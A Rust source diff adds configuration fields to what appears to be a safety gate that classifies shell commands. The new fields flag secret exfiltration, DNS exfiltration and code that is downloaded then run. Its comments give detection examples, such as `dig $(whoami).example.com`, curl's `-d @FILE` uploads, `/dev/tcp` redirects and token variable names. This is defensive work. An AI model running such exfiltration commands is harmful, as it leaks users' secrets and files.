@@ -103,6 +103,25 @@ pub struct ShellConfig {
     /// shipped entry of the same name.
     #[serde(default)]
     pub extra_commands: Vec<CommandSpec>,
+    /// Variable names that look like secrets (`GITHUB_TOKEN`,
+    /// `AWS_SECRET_ACCESS_KEY`): a URL's query or a request body built
+    /// from one gets `effects.exfiltration`.
+    #[serde(default = "crate::plan::gate::config::d::shell_secret_variables")]
+    pub secret_variables: ConfigRegex,
+    /// Request data that names a file whose content is sent (curl's
+    /// `-d @FILE`, `-F name=@FILE`, `-F name=<FILE`): the first capture
+    /// group that matches is the file.
+    #[serde(default = "crate::plan::gate::config::d::shell_data_files")]
+    pub data_files: ConfigRegex,
+    /// Commands whose writes change a file's metadata (mode, owner, times),
+    /// not its content (`chmod +x f` after `echo ... > f` keeps the
+    /// content the line showed).
+    #[serde(default = "crate::plan::gate::config::d::shell_keeps_content")]
+    pub keeps_content: Vec<String>,
+    /// Files commands run as code, for the "written now, run later" check
+    /// (`[[gate.shell.written_code]]`).
+    #[serde(default = "crate::plan::gate::config::d::shell_written_code")]
+    pub written_code: Vec<super::written::WrittenCode>,
     /// Name lookups, built on first use (not configuration).
     #[serde(skip)]
     index: IndexCell,
@@ -386,6 +405,19 @@ pub struct EffectChecks {
     /// Runs project code without being a trusted project command.
     #[serde(default = "crate::plan::gate::config::d::shell_effects_project")]
     pub project: Check,
+    /// A host name built at run time is resolved (DNS exfiltration:
+    /// `dig $(whoami).example.com`).
+    #[serde(default = "crate::plan::gate::config::d::shell_effects_dynamic_host")]
+    pub dynamic_host: Check,
+    /// Data from a file, a command's output or a secret-looking variable
+    /// is sent over the network (a URL's query, a request body, an
+    /// upload, a `/dev/tcp` redirect).
+    #[serde(default = "crate::plan::gate::config::d::shell_effects_exfiltration")]
+    pub exfiltration: Check,
+    /// A file written earlier in the line is run as code that cannot be
+    /// judged (downloaded, or of a kind without a reader).
+    #[serde(default = "crate::plan::gate::config::d::shell_effects_written_code")]
+    pub written_code: Check,
 }
 
 /// What a shell builtin does to the shell's state (`[gate.shell.builtins]`).
@@ -469,6 +501,11 @@ pub struct ConfigKeys {
     /// `script`); such a value is otherwise a key without a value.
     #[serde(default)]
     pub bare_values: Option<Effect>,
+    /// The text between key and value when it is not `=` (bash's `bind
+    /// -x '"KEYSEQ": COMMAND'`: `:`); a leading double-quoted key is read
+    /// to its closing quote first.
+    #[serde(default)]
+    pub separator: Option<String>,
 }
 
 /// `[gate.shell.limits]`.
